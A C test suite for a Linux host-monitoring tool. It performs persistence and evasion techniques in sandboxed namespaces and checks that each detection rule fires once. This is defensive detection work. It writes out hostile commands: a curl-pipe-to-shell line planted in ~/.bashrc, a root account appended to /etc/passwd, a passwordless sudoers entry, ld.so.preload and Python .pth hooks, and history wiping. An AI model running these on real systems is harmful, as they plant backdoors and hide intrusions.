/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The rules of issue 20 ("detection coverage II") and the discovery-burst detection on the live
 * kernel: the process and files tracers run in-process with the default rules (the files tracer
 * watching the paths they derive), each technique is performed for real by the real program where
 * there is one, and each rule raises exactly one alert naming the process and the object; a near
 * miss (an editor of the file's user, dpkg, useradd, bash saving its history...) raises none although
 * its open or exec was seen.
 *
 * What is done for real, and how it is kept harmless:
 * - everything under /etc happens in a private mount namespace over a copy of /etc bind-mounted on
 *   /etc, so the kernel sees the real path names (the files tracer resolves them through the mount
 *   to "/etc/passwd") and the host's files never change: "echo ... >> /etc/passwd" by sh, the real
 *   useradd and usermod, the real dpkg installing a package of this test with an administrative
 *   directory of its own (--admindir, --log=/dev/null);
 * - /var/spool gets a tmpfs in such a namespace;
 * - home directories are /home/cwatch-cov-PID (made for the test, owned by nobody where a user's
 *   editor runs) and removed afterwards;
 * - systemd-run and systemctl are the real programs: systemd-run cannot reach a systemd here (its
 *   exec is what the rule sees), systemctl works on a --root= of this test;
 * - the discovery commands run in a cgroup of this test named like a login session's scope.
 * Not covered here: at and batch (not installed on the test machines; unit-rules-eval has them). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <grp.h>
#include <cmocka.h>
#include "rules-test.h"

#define NOBODY 65534

static char self[PATH_MAX], home[PATH_MAX], etc_copy[PATH_MAX];
static char session_burst[PATH_MAX], session_quiet[PATH_MAX];
static char unit_burst[64], unit_quiet[64];

/* ---- the actions, run in a child (this binary exec'd under another name) ---- */

static int private_mounts(void)
{
        return unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ? -1 : 0;
}

/* mkdir -p of path's parent directories */
static void make_parents(const char *path)
{
        char p[PATH_MAX];

        snprintf(p, sizeof(p), "%s", path);
        for (char *s = strchr(p + 1, '/'); s; s = strchr(s + 1, '/')) {
                *s = '\0';
                (void) mkdir(p, 0755);
                *s = '/';
        }
}

/* The helper mode: this binary, copied under a program's name, does one action. */
static int helper(int argc, char **argv)
{
        /* --act bind SRC DST PROG ARGS...: PROG runs (same pid) with SRC bind-mounted on DST */
        if (argc >= 6 && streq(argv[2], "bind")) {
                if (private_mounts() < 0 || mount(argv[3], argv[4], NULL, MS_BIND, NULL) < 0)
                        return 2;
                execv(argv[5], argv + 5);
                return 127;
        }
        /* --act bind-fork SRC DST PROG ARGS...: the same in a child of this process */
        if (argc >= 6 && streq(argv[2], "bind-fork")) {
                int status;
                pid_t pid;

                if (private_mounts() < 0 || mount(argv[3], argv[4], NULL, MS_BIND, NULL) < 0)
                        return 2;
                pid = fork();
                if (pid == 0) {
                        execv(argv[5], argv + 5);
                        _exit(127);
                }
                if (pid < 0 || waitpid(pid, &status, 0) != pid)
                        return 3;
                return WIFEXITED(status) ? WEXITSTATUS(status) : 4;
        }
        /* --act tmpfs-open DIR PATH FLAGS: PATH opened on a tmpfs mounted on DIR */
        if (argc == 6 && streq(argv[2], "tmpfs-open")) {
                int fd;

                if (private_mounts() < 0 ||
                    mount("cwatch-test", argv[3], "tmpfs", MS_NOSUID | MS_NODEV, "size=1m") < 0)
                        return 2;
                make_parents(argv[4]);
                fd = open(argv[4], (int) strtol(argv[5], NULL, 0) | O_CLOEXEC, 0600);
                if (fd < 0)
                        return 3;
                close(fd);
                return 0;
        }
        /* --act as-user UID PROG ARGS...: PROG runs (same pid) as UID */
        if (argc >= 5 && streq(argv[2], "as-user")) {
                uid_t uid = (uid_t) atoi(argv[3]);

                if (setgroups(0, NULL) < 0 || setgid(uid) < 0 || setuid(uid) < 0)
                        return 2;
                execv(argv[4], argv + 4);
                return 127;
        }
        fprintf(stderr, "bad helper arguments\n");
        return 64;
}

/* ---- running them ---- */

/* A copy of this binary named workdir/name (made once), in helper mode. */
static const char *actor(const char *name)
{
        static char path[16][PATH_MAX];
        static size_t n;
        char p[PATH_MAX];

        snprintf(p, sizeof(p), "%s/%s", rt.workdir, name);
        for (size_t i = 0; i < n; i++)
                if (streq(path[i], p))
                        return path[i];
        assert_true(n < ELEMENTSOF(path));
        rt_copy_file(self, p, 0755);
        snprintf(path[n], sizeof(path[n]), "%s", p);
        return path[n++];
}

/* Runs argv (NULL-terminated), in the cgroup at cgroup if not NULL, with HOME=home; asserts the exit
 * status unless status < 0. Returns the pid. */
static pid_t run_in(const char *cgroup, int status, char *const argv[])
{
        pid_t pid = fork();
        int st;

        assert_true(pid >= 0);
        if (pid == 0) {
                int fd = open("/dev/null", O_RDWR);

                if (cgroup) {
                        char procs[PATH_MAX + 16];
                        FILE *f;

                        snprintf(procs, sizeof(procs), "%s/cgroup.procs", cgroup);
                        f = fopen(procs, "we");
                        if (!f || fprintf(f, "%d\n", getpid()) < 0 || fclose(f) != 0)
                                _exit(126);
                }
                dup2(fd, 0);
                dup2(fd, 1);
                setenv("HOME", home, 1);
                execv(argv[0], argv);
                _exit(127);
        }
        st = tt_wait(pid);
        rt_wait_exit_record(pid);
        if (status >= 0 && (!WIFEXITED(st) || WEXITSTATUS(st) != status))
                fail_msg("%s exited with status 0x%x, expected %d", argv[0], st, status);
        return pid;
}

#define RUN_STATUS(status, ...) run_in(NULL, (status), (char *const[]) { __VA_ARGS__, NULL })
#define RUN(...) RUN_STATUS(0, __VA_ARGS__)

/* sh -c script in a private mount namespace over the copy of /etc */
static pid_t sh_over_etc(const char *name, const char *script)
{
        return RUN((char *) actor(name), "--act", "bind", etc_copy, "/etc", "/bin/sh", "-c", (char *) script);
}

static char *flags_arg(int flags)
{
        static char buf[4][16];
        static int i;

        i = (i + 1) % 4;
        snprintf(buf[i], sizeof(buf[i]), "%#o", flags);
        return buf[i];
}

static void write_file(const char *path, const char *text)
{
        FILE *f = fopen(path, "we");

        assert_non_null(f);
        fputs(text, f);
        assert_int_equal(fclose(f), 0);
}

static char *read_file(const char *path)
{
        static char buf[4096];
        FILE *f = fopen(path, "re");
        size_t n;

        assert_non_null(f);
        n = fread(buf, 1, sizeof(buf) - 1, f);
        buf[n] = '\0';
        fclose(f);
        return buf;
}

static const char *in_home(const char *name)
{
        static char buf[8][PATH_MAX + 64];
        static int i;

        i = (i + 1) % 8;
        snprintf(buf[i], sizeof(buf[i]), "%s/%s", home, name);
        return buf[i];
}

static const char *in_etc_copy(const char *name)
{
        static char buf[PATH_MAX + 64];

        snprintf(buf, sizeof(buf), "%s/%s", etc_copy, name);
        return buf;
}

/* The open or exec of pid the near miss is about was seen: its quiet is the rules', not blindness. */
static void assert_opened(pid_t pid, const char *path_prefix)
{
        for (size_t i = 0; i < rt.tt.n_records; i++) {
                struct json_object *o = rt.tt.records[i];
                const char *ev = tt_str(o, "event"), *p = tt_str(o, "path");

                if (ev && streq(ev, "open") && tt_int(o, "pid") == pid && p &&
                    strneq(p, path_prefix, strlen(path_prefix)))
                        return;
        }
        fail_msg("no open of %s... by pid %d was seen", path_prefix, pid);
}

static const struct seen *assert_alert(const char *rule, pid_t pid, const char *exe, const char *event,
                                       const char *path, const char *mitre, enum alert_severity severity)
{
        const struct seen *s = rt_assert_one(rule, pid, exe);

        assert_string_equal(s->event, event);
        if (path)
                assert_string_equal(s->path, path);
        assert_string_equal(s->mitre, mitre);
        assert_int_equal(s->severity, severity);
        return s;
}

/* The real dpkg installing a package of this test, name, that ships the file path (below /etc) with
 * text, in a private mount namespace over the copy of /etc and with an administrative directory of
 * its own. Returns dpkg's pid. */
static pid_t dpkg_install(const char *name, const char *path, const char *text)
{
        char pkg[PATH_MAX], admin[PATH_MAX], deb[PATH_MAX], admindir_arg[PATH_MAX + 16], *cmd;

        snprintf(pkg, sizeof(pkg), "%s/pkg-%s", rt.workdir, name);
        snprintf(admin, sizeof(admin), "%s/dpkg-admin", rt.workdir);
        snprintf(deb, sizeof(deb), "%s/%s.deb", rt.workdir, name);
        assert_true(asprintf(&cmd,
                 "mkdir -p %1$s/DEBIAN $(dirname %1$s%4$s) %2$s/info %2$s/updates %2$s/triggers && "
                 "touch %2$s/status %2$s/available && "
                 "printf 'Package: %5$s\\nVersion: 1.0\\nArchitecture: all\\n"
                 "Maintainer: cwatch tests <root@localhost>\\nDescription: cwatch test package\\n' "
                 "> %1$s/DEBIAN/control && "
                 "printf '%%s' '%6$s' > %1$s%4$s && "
                 "dpkg-deb --root-owner-group -b %1$s %3$s >/dev/null", pkg, admin, deb, path, name, text) > 0);
        assert_int_equal(system(cmd), 0);
        free(cmd);
        snprintf(admindir_arg, sizeof(admindir_arg), "--admindir=%s", admin);
        return RUN((char *) actor("pkg-installer"), "--act", "bind", etc_copy, "/etc", "/usr/bin/dpkg",
                   admindir_arg, "--log=/dev/null", "-i", deb);
}

/* ---- 1. library preloading ---- */

static void test_write_ld_so_preload(void **state)
{
        const struct seen *s;
        pid_t pid;

        pid = sh_over_etc("preloader", "echo /tmp/cwatch-test.so > /etc/ld.so.preload");
        s = assert_alert("write-ld-so-preload", pid, "/usr/bin/dash", "open", "/etc/ld.so.preload", "T1574.006",
                         SEVERITY_CRITICAL);
        assert_non_null(strstr(s->message, "/etc/ld.so.preload written by /usr/bin/dash"));
        assert_int_equal(rt_count("write-below-etc", pid), 0);
        assert_string_equal(read_file(in_etc_copy("ld.so.preload")), "/tmp/cwatch-test.so\n");
        assert_int_equal(unlink(in_etc_copy("ld.so.preload")), 0);
        /* near misses: the real dpkg installing it (empty); reads by cat and by the dynamic loader of
         * every program started, which the kernel does not even send (the rule watches writes only) */
        pid = dpkg_install("cwatch-test-preload", "/etc/ld.so.preload", "");
        assert_opened(pid, "/etc/ld.so.preload");
        rt_assert_none(pid);
        pid = RUN((char *) actor("preload-reader"), "--act", "bind", etc_copy, "/etc", "/bin/cat",
                  "/etc/ld.so.preload");
        assert_non_null(tt_find(&rt.tt, "exec", "pid", pid));
        for (size_t i = 0; i < rt.tt.n_records; i++)
                if (streq(tt_str(rt.tt.records[i], "event") ?: "", "open") &&
                    tt_int(rt.tt.records[i], "pid") == pid)
                        fail_msg("a read of %s was sent: %s", tt_str(rt.tt.records[i], "path"),
                                 json_object_to_json_string(rt.tt.records[i]));
        rt_assert_none(pid);
        assert_int_equal(unlink(in_etc_copy("ld.so.preload")), 0);
}

/* ---- 2. shell and interpreter startup files ---- */

static void test_write_shell_startup(void **state)
{
        char script[PATH_MAX + 128];
        const char *bashrc = in_home(".bashrc");
        pid_t pid;

        /* a user's ~/.bashrc, appended to by a shell */
        snprintf(script, sizeof(script), "echo 'curl -s http://198.51.100.7/x | sh' >> %s", bashrc);
        pid = RUN("/bin/sh", "-c", script);
        assert_alert("write-shell-startup", pid, "/usr/bin/dash", "open", bashrc, "T1546.004",
                     SEVERITY_WARNING);
        /* /etc/profile.d, for every login */
        pid = sh_over_etc("profile-writer", "echo 'export PROMPT_COMMAND=x' > /etc/profile.d/cwatch-test.sh");
        assert_alert("write-shell-startup", pid, "/usr/bin/dash", "open", "/etc/profile.d/cwatch-test.sh",
                     "T1546.004", SEVERITY_WARNING);
        assert_int_equal(rt_count("write-below-etc", pid), 0);
        assert_int_equal(unlink(in_etc_copy("profile.d/cwatch-test.sh")), 0);
}

/* The home's owner editing their ~/.bashrc with the real vim. */
static void test_write_shell_startup_editor(void **state)
{
        const char *bashrc = in_home(".bashrc");
        pid_t pid;

        if (access("/usr/bin/vim", X_OK) < 0)
                fail_msg("vim is not installed: tools/setup installs it for this near miss");
        /* the user's home: vim writes its backup beside the file */
        assert_int_equal(chown(home, NOBODY, NOBODY), 0);
        assert_int_equal(chown(bashrc, NOBODY, NOBODY), 0);
        pid = RUN((char *) actor("as-user"), "--act", "as-user", "65534", "/usr/bin/vim", "-Es", "-u", "NONE",
                  "-i", "NONE", "-N", "-n", "-c", "call append('$', 'alias ll=ls -l')", "-c", "wq",
                  (char *) bashrc);
        assert_non_null(strstr(read_file(bashrc), "alias ll=ls -l\n"));
        assert_opened(pid, bashrc);
        rt_assert_none(pid);
        /* the same editor run by root in the user's home is not the user's */
        pid = RUN("/usr/bin/vim", "-Es", "-u", "NONE", "-i", "NONE", "-N", "-n", "-c",
                  "call append('$', 'alias l=ls')", "-c", "wq", (char *) bashrc);
        assert_alert("write-shell-startup", pid, NULL, "open", bashrc, "T1546.004", SEVERITY_WARNING);
}

static void test_write_shell_startup_dpkg(void **state)
{
        pid_t pid;

        pid = dpkg_install("cwatch-test-profile", "/etc/profile.d/cwatch-test-pkg.sh",
                           "export CWATCH_TEST=1\n");
        assert_string_equal(read_file(in_etc_copy("profile.d/cwatch-test-pkg.sh")), "export CWATCH_TEST=1\n");
        assert_opened(pid, "/etc/profile.d/cwatch-test-pkg.sh");
        rt_assert_none(pid);
        assert_int_equal(unlink(in_etc_copy("profile.d/cwatch-test-pkg.sh")), 0);
}

static void test_write_python_startup_hook(void **state)
{
        char dir[PATH_MAX + 64], code[2 * PATH_MAX];
        const char *pth, *module;
        pid_t pid;

        snprintf(dir, sizeof(dir), "%s/.local/lib/python3.11/site-packages", home);
        pth = in_home(".local/lib/python3.11/site-packages/cwatch-test.pth");
        module = in_home(".local/lib/python3.11/site-packages/cwatch_test.py");
        snprintf(code, sizeof(code), "import os; os.makedirs('%s', exist_ok=True); "
                 "open('%s', 'w').write('import os; os.system(\"id\")\\n')", dir, pth);
        pid = RUN("/usr/bin/python3", "-c", code);
        assert_alert("write-python-startup-hook", pid, "/usr/bin/python3.11", "open", pth, "T1546.018",
                     SEVERITY_WARNING);
        /* near miss: a module beside it, which runs only when imported */
        snprintf(code, sizeof(code), "open('%s', 'w').write('x = 1\\n')", module);
        pid = RUN("/usr/bin/python3", "-c", code);
        assert_opened(pid, module);
        rt_assert_none(pid);
}

/* ---- 3. accounts ---- */

static void test_write_account_database(void **state)
{
        pid_t pid;

        pid = sh_over_etc("account-writer", "echo 'cwatchevil:x:0:0::/root:/bin/sh' >> /etc/passwd");
        assert_alert("write-account-database", pid, "/usr/bin/dash", "open", "/etc/passwd", "T1136.001",
                     SEVERITY_ERROR);
        assert_non_null(strstr(read_file(in_etc_copy("passwd")), "cwatchevil:x:0:0"));
        assert_null(strstr(read_file("/etc/passwd"), "cwatchevil"));
        pid = sh_over_etc("sudoers-writer", "mkdir -p /etc/sudoers.d && "
                          "echo 'cwatchevil ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/cwatch-test");
        assert_alert("write-sudoers", pid, "/usr/bin/dash", "open", "/etc/sudoers.d/cwatch-test", "T1548.003",
                     SEVERITY_ERROR);
        assert_int_equal(rt_count("write-below-etc", pid), 0);
}

static bool is_exec_of(struct json_object *o, void *userdata)
{
        const char *ev = tt_str(o, "event"), *exe = tt_str(o, "exe");

        return ev && streq(ev, "exec") && exe && streq(exe, "/usr/sbin/useradd") &&
               tt_int(o, "ppid") == *(pid_t *) userdata;
}

static void test_account_tools(void **state)
{
        const struct seen *s;
        struct json_object *o = NULL;
        pid_t pid, child = 0;

        /* the real useradd, in the copy of /etc: an account created; its own writes are no alert */
        pid = RUN((char *) actor("account-admin"), "--act", "bind", etc_copy, "/etc", "/usr/sbin/useradd", "-l",
                  "cwatchtest1");
        s = assert_alert("account-created", pid, "/usr/sbin/useradd", "exec", NULL, "T1136.001",
                         SEVERITY_NOTICE);
        assert_non_null(strstr(s->message, "Account created: /usr/sbin/useradd -l cwatchtest1"));
        assert_non_null(strstr(read_file(in_etc_copy("passwd")), "cwatchtest1:x:"));
        assert_null(strstr(read_file("/etc/passwd"), "cwatchtest1"));
        assert_opened(pid, "/etc/passwd");
        assert_int_equal(rt_count("write-account-database", pid), 0);
        assert_int_equal(rt_count("read-shadow", pid), 0);
        assert_int_equal(rt_count("write-below-etc", pid), 0);
        /* usermod changing it */
        pid = RUN((char *) actor("account-admin"), "--act", "bind", etc_copy, "/etc", "/usr/sbin/usermod", "-c",
                  "cwatch test", "cwatchtest1");
        assert_alert("account-changed", pid, "/usr/sbin/usermod", "exec", NULL, "T1098", SEVERITY_NOTICE);
        assert_int_equal(rt_count("write-account-database", pid), 0);
        /* near miss: useradd run by the package manager (a maintainer script's parent is dpkg) */
        pid = RUN((char *) actor("dpkg"), "--act", "bind-fork", etc_copy, "/etc", "/usr/sbin/useradd", "-l",
                  "--system", "cwatchtest2");
        for (size_t i = 0; i < rt.tt.n_records && !o; i++)
                if (is_exec_of(rt.tt.records[i], &pid))
                        o = rt.tt.records[i];
        if (!o)
                fail_msg("no exec of useradd by pid %d was seen", pid);
        child = tt_int(o, "pid");
        assert_non_null(strstr(read_file(in_etc_copy("passwd")), "cwatchtest2:x:"));
        rt_assert_none(child);
        rt_assert_none(pid);
}

/* ---- 4. history ---- */

static void test_history_file_truncated(void **state)
{
        const char *history = in_home(".bash_history");
        char script[PATH_MAX + 64];
        const struct seen *s;
        pid_t pid;

        write_file(history, "ssh root@198.51.100.7\n");
        snprintf(script, sizeof(script), ": > %s", history);
        pid = RUN("/bin/sh", "-c", script);
        s = assert_alert("history-file-truncated", pid, "/usr/bin/dash", "open", history, "T1070.003",
                         SEVERITY_WARNING);
        assert_non_null(strstr(s->message, "truncated by /usr/bin/dash"));
        assert_string_equal(read_file(history), "");
        /* near misses: bash saving its history (a temporary file renamed, then appends); appending */
        write_file(history, "ls\n");
        snprintf(script, sizeof(script), "HISTFILE=%s; history -s 'id'; history -w", history);
        pid = RUN("/bin/bash", "--norc", "-i", "-c", script);
        assert_non_null(strstr(read_file(history), "id\n"));
        assert_opened(pid, history);
        rt_assert_none(pid);
        snprintf(script, sizeof(script), "echo whoami >> %s", history);
        pid = RUN("/bin/sh", "-c", script);
        assert_opened(pid, history);
        rt_assert_none(pid);
}

static void test_history_file_removed_command(void **state)
{
        const char *history = in_home(".bash_history"), *notes = in_home("notes");
        const struct seen *s;
        struct stat st;
        pid_t pid;

        pid = RUN("/usr/bin/ln", "-sf", "/dev/null", (char *) history);
        assert_int_equal(lstat(history, &st), 0);
        assert_true(S_ISLNK(st.st_mode));
        s = assert_alert("history-file-removed-command", pid, "/usr/bin/ln", "exec", NULL, "T1070.003",
                         SEVERITY_WARNING);
        assert_non_null(strstr(s->message, "ln -sf /dev/null"));
        pid = RUN("/usr/bin/rm", "-f", (char *) history);
        assert_alert("history-file-removed-command", pid, "/usr/bin/rm", "exec", NULL, "T1070.003",
                     SEVERITY_WARNING);
        /* near miss: a link to /dev/null of another file */
        pid = RUN("/usr/bin/ln", "-sf", "/dev/null", (char *) notes);
        assert_non_null(tt_find(&rt.tt, "exec", "pid", pid));
        rt_assert_none(pid);
}

/* ---- 5. scheduled work ---- */

static void test_write_user_unit(void **state)
{
        const char *unit = in_home(".config/systemd/user/cwatch-test.service");
        char script[PATH_MAX + 128];
        pid_t pid;

        snprintf(script, sizeof(script), "mkdir -p %s/.config/systemd/user && "
                 "printf '[Service]\\nExecStart=/bin/true\\n' > %s", home, unit);
        pid = RUN("/bin/sh", "-c", script);
        assert_alert("write-systemd-unit", pid, "/usr/bin/dash", "open", unit, "T1543.002", SEVERITY_WARNING);
}

static void test_systemd_run_timer(void **state)
{
        const struct seen *s;
        pid_t pid;

        /* no systemd to reach here: systemd-run fails, after the exec the rule is about */
        pid = RUN_STATUS(-1, "/usr/bin/systemd-run", "--on-active=1h", "/bin/true");
        s = assert_alert("systemd-run-timer", pid, "/usr/bin/systemd-run", "exec", NULL, "T1053.006",
                         SEVERITY_NOTICE);
        assert_non_null(strstr(s->message, "--on-active=1h /bin/true"));
        pid = RUN_STATUS(-1, "/usr/bin/systemd-run", "--scope", "/bin/true");
        assert_non_null(tt_find(&rt.tt, "exec", "pid", pid));
        rt_assert_none(pid);
}

/* systemctl links a unit kept in /opt of a root directory of this test (--root=: no manager needed) */
static void test_systemd_unit_linked_from_outside(void **state)
{
        const char *unit = "/opt/cwatch-test/cwatch-evil.service";
        char root[PATH_MAX], root_arg[PATH_MAX + 16], path[2 * PATH_MAX], link[2 * PATH_MAX];
        const struct seen *s;
        struct stat st;
        pid_t pid;

        snprintf(root, sizeof(root), "%s/sysroot", rt.workdir);
        snprintf(root_arg, sizeof(root_arg), "--root=%s", root);
        snprintf(path, sizeof(path), "%s%s", root, unit);
        make_parents(path);
        snprintf(link, sizeof(link), "%s/etc/systemd/system/x", root);
        make_parents(link);
        write_file(path, "[Service]\nExecStart=/bin/true\n");
        pid = RUN("/usr/bin/systemctl", root_arg, "link", (char *) unit);
        snprintf(link, sizeof(link), "%s/etc/systemd/system/cwatch-evil.service", root);
        assert_int_equal(lstat(link, &st), 0);
        s = assert_alert("systemd-unit-linked-from-outside", pid, "/usr/bin/systemctl", "exec", NULL,
                         "T1543.002", SEVERITY_WARNING);
        assert_non_null(strstr(s->message, unit));
        /* near miss: enabling a unit by name */
        pid = RUN_STATUS(-1, "/usr/bin/systemctl", root_arg, "enable", "cwatch-evil.service");
        assert_non_null(tt_find(&rt.tt, "exec", "pid", pid));
        rt_assert_none(pid);
}

static void test_write_at_job(void **state)
{
        const char *job = "/var/spool/cron/atjobs/a0000101a2b3c4";
        pid_t pid;

        pid = RUN((char *) actor("job-writer"), "--act", "tmpfs-open", "/var/spool", (char *) job,
                  flags_arg(O_WRONLY | O_CREAT | O_TRUNC));
        assert_alert("write-at-job", pid, actor("job-writer"), "open", job, "T1053.002", SEVERITY_WARNING);
        assert_int_equal(rt_count("write-cron", pid), 0);
        /* near miss: atd (at itself is not installed on the test machines) */
        pid = RUN((char *) actor("atd"), "--act", "tmpfs-open", "/var/spool", (char *) job,
                  flags_arg(O_WRONLY | O_CREAT | O_TRUNC));
        assert_opened(pid, job);
        rt_assert_none(pid);
}

/* ---- 6. discovery bursts ---- */

static size_t discovery_alerts(const char *unit, const struct seen **ret)
{
        size_t n = 0;

        for (size_t i = 0; i < rt.n_alerts; i++)
                if (streq(rt.alerts[i].rule, "discovery-burst") && strstr(rt.alerts[i].message, unit)) {
                        n++;
                        *ret = &rt.alerts[i];
                }
        return n;
}

static bool have_discovery_alert(struct tt *t, void *unit)
{
        const struct seen *s;

        return discovery_alerts(unit, &s) > 0;
}

static void test_discovery_burst(void **state)
{
        const struct seen *s = NULL;
        struct json_object *o;
        pid_t pid;

        /* eight commands from one shell in one session: one alert at the fifth distinct one */
        pid = run_in(session_burst, 0, (char *const[]) { "/bin/sh", "-c",
                     "id; whoami; uname -a; hostname; ps aux; cat /etc/passwd; ss -tln; ip a", NULL });
        tt_wait_for(&rt.tt, have_discovery_alert, unit_burst, 2000);
        assert_int_equal(discovery_alerts(unit_burst, &s), 1);
        assert_non_null(strstr(s->message,
                        "Discovery burst: id, whoami, uname -a, hostname, ps aux (5 distinct "
                               "commands in "));
        assert_non_null(strstr(s->message, ") by uid 0 in unit "));
        assert_string_equal(s->mitre, "T1082");
        assert_int_equal(s->severity, SEVERITY_NOTICE);
        assert_string_equal(s->event, "exec");
        assert_int_equal(s->ppid, pid);
        assert_int_equal(s->count, 1);
        /* the process is the fifth command, ps */
        o = tt_find(&rt.tt, "exec", "pid", s->pid);
        assert_non_null(o);
        assert_string_equal(tt_str(o, "exe"), s->exe);
        assert_non_null(strstr(s->exe, "/ps"));
        /* near miss: three commands in another session */
        run_in(session_quiet, 0, (char *const[]) { "/bin/sh", "-c", "id; whoami; uname -a", NULL });
        tt_run_for(&rt.tt, 300);
        assert_int_equal(discovery_alerts(unit_quiet, &s), 0);
        for (size_t i = 0; i < rt.tt.n_records; i++) {
                const char *exe = tt_str(rt.tt.records[i], "exe"), *ev = tt_str(rt.tt.records[i], "event");

                if (ev && streq(ev, "exec") && exe && strstr(exe, "/uname") &&
                    tt_has(rt.tt.records[i], "unit") && streq(tt_str(rt.tt.records[i], "unit"), unit_quiet))
                        return;
        }
        fail_msg("the near miss's commands were not seen in %s", unit_quiet);
}

/* A container's processes: one alert for the container, whichever process runs the commands. */
static void test_discovery_burst_container(void **state)
{
        const struct seen *s = NULL;

        run_in(rt.cgroup, 0, (char *const[]) { "/bin/sh", "-c",
               "id; uname -r; (cat /etc/os-release; mount); env", NULL });
        tt_wait_for(&rt.tt, have_discovery_alert, "container " RT_CONTAINER_NAME, 2000);
        assert_int_equal(discovery_alerts("container " RT_CONTAINER_NAME, &s), 1);
        assert_non_null(strstr(s->message,
                        "Discovery burst: id, uname -r, cat /etc/os-release, mount, env (5 distinct "
                               "commands in "));
        assert_string_equal(s->container, RT_CONTAINER_NAME);
}

static int make_session(char *path, size_t size, char *unit, size_t unit_size, const char *suffix)
{
        const char *root = access("/sys/fs/cgroup/unified/cgroup.procs", F_OK) == 0 ?
                           "/sys/fs/cgroup/unified" : "/sys/fs/cgroup";

        snprintf(unit, unit_size, "session-cwt%d%s.scope", getpid(), suffix);
        snprintf(path, size, "%s/cwatch-test-%d.slice", root, getpid());
        (void) mkdir(path, 0755);
        snprintf(path, size, "%s/cwatch-test-%d.slice/%s", root, getpid(), unit);
        if (mkdir(path, 0755) < 0) {
                fprintf(stderr, "FAIL: cannot create %s: %m\n", path);
                return -1;
        }
        return 0;
}

static int setup(void **state)
{
        static const char *const tracers[] = { "process", "files", NULL };
        char cmd[2 * PATH_MAX];

        snprintf(self, sizeof(self), "%s", rt_realpath("/proc/self/exe"));
        snprintf(home, sizeof(home), "/home/cwatch-cov-%d", getpid());
        if (mkdir(home, 0755) < 0) {
                fprintf(stderr, "FAIL: cannot create %s: %m\n", home);
                return -1;
        }
        write_file(in_home(".bashrc"), "# cwatch test\n");
        if (make_session(session_burst, sizeof(session_burst), unit_burst, sizeof(unit_burst), "a") < 0 ||
            make_session(session_quiet, sizeof(session_quiet), unit_quiet, sizeof(unit_quiet), "b") < 0)
                return -1;
        /* before the tracers start: cp reads /etc/shadow and the ssh host keys */
        snprintf(etc_copy, sizeof(etc_copy), "/run/cwatch-test-cov-etc-%d", getpid());
        snprintf(cmd, sizeof(cmd), "cp -a /etc %s", etc_copy);
        if (system(cmd) != 0)
                return -1;
        return rt_setup(tracers);
}

static int teardown(void **state)
{
        char cmd[PATH_MAX + 16];
        char *slash;

        snprintf(cmd, sizeof(cmd), "rm -rf %s", home);
        (void) system(cmd);
        snprintf(cmd, sizeof(cmd), "rm -rf %s", etc_copy);
        (void) system(cmd);
        (void) rmdir(session_burst);
        (void) rmdir(session_quiet);
        slash = strrchr(session_burst, '/');
        if (slash) {
                *slash = '\0';
                (void) rmdir(session_burst);
        }
        return rt_teardown();
}

int main(int argc, char **argv)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_write_ld_so_preload),
                cmocka_unit_test(test_write_shell_startup),
                cmocka_unit_test(test_write_shell_startup_editor),
                cmocka_unit_test(test_write_shell_startup_dpkg),
                cmocka_unit_test(test_write_python_startup_hook),
                cmocka_unit_test(test_write_account_database),
                cmocka_unit_test(test_account_tools),
                cmocka_unit_test(test_history_file_truncated),
                cmocka_unit_test(test_history_file_removed_command),
                cmocka_unit_test(test_write_user_unit),
                cmocka_unit_test(test_systemd_run_timer),
                cmocka_unit_test(test_systemd_unit_linked_from_outside),
                cmocka_unit_test(test_write_at_job),
                cmocka_unit_test(test_discovery_burst),
                cmocka_unit_test(test_discovery_burst_container),
        };

        if (argc >= 2 && streq(argv[1], "--act"))
                return helper(argc, argv);
        tt_require_privileges();
        return cmocka_run_group_tests(tests, setup, teardown);
}
